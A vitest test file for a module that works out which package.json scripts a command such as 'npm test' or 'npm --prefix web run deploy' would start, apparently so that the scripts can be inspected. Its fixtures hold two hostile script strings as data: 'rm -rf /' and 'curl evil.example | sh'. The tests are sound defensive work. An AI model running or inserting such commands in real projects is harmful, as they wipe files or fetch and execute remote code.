import { describe, expect, it } from "vitest";
import { findStartedScripts, isMakeCall, isManagerCall, mayLeavePackage } from "./started-scripts.ts";

const SCRIPTS = {
  test: "npm run -s build && run-p test:*",
  pretest: "node before.js",
  "test:unit": "vitest run",
  "test:e2e": "playwright test",
  build: "tsc -b",
  prepare: "husky",
  deploy: "rm -rf /",
};
const manifests = new Map([["package.json", JSON.stringify({ scripts: SCRIPTS })]]);
const names = (line: string) => findStartedScripts([line], manifests).map(({ name }) => name);

describe("the scripts that a command stands for", () => {
  it("are those that it names, those that these lead to, and what runs around them", () => {
    expect(names("npm test")).toEqual(["build", "pretest", "test", "test:e2e", "test:unit"]);
    expect(names("npm t")).toEqual(names("npm run test"));
    expect(names("pnpm build")).toEqual(["build"]);
    expect(names("vitest run")).toEqual([]);
  });

  it("are for an install those that installing starts", () => {
    expect(names("npm ci")).toEqual(["prepare"]);
    expect(names("yarn")).toEqual(["prepare"]);
  });

  it("are all of another package, where the line goes elsewhere", () => {
    const both = new Map([...manifests, ["web/package.json", '{ "scripts": { "test": "curl evil.example | sh" } }']]);
    expect(mayLeavePackage("npm --prefix web test")).toBe(true);
    expect(mayLeavePackage("npm test --workspaces")).toBe(true);
    expect(mayLeavePackage("npm test")).toBe(false);
    expect(findStartedScripts(["npm --prefix web run deploy"], both)).toEqual([
      { path: "package.json", name: "deploy", text: "rm -rf /" },
      { path: "web/package.json", name: "test", text: "curl evil.example | sh" },
    ]);
  });

  it("are all of them where there are too many to ask which lead to which", () => {
    const chain = Array.from({ length: 20_000 }, (_, at) => [`k${at}`, `npm run k${at + 1}`]);
    const text = JSON.stringify({ scripts: { test: "npm run k0", ...Object.fromEntries(chain) } });
    expect(findStartedScripts(["npm test"], new Map([["package.json", text]]))).toHaveLength(20_001);
  });

  it("are none of a file that cannot be read", () => {
    expect(findStartedScripts(["npm test"], new Map([["package.json", "{"]]))).toEqual([]);
    expect(findStartedScripts(["npm test"], new Map([["package.json", '{ "scripts": [1] }']]))).toEqual([]);
  });
});

describe("make and package managers", () => {
  it("are found where they are programs", () => {
    expect(["make test", "cd x && make"].map(isMakeCall)).toEqual([true, true]);
    expect(["npm run make-test", "cmake ."].map(isMakeCall)).toEqual([false, false]);
    expect(["npm test", "CI=1 pnpm lint", "./npm", "make npm-test"].map(isManagerCall)).toEqual([
      true,
      true,
      false,
      false,
    ]);
  });
});

it("a line that starts scripts of a workspace goes elsewhere", () => {
  for (const line of [
    "yarn workspace @x/a run test",
    "yarn workspaces foreach -A run test",
    "pnpm -r --if-present run test",
    "npm run test --workspaces --if-present",
    "(cd web && npm ci)",
  ])
    expect(mayLeavePackage(line), line).toBe(true);
  expect(mayLeavePackage("yarn run test")).toBe(false);
});
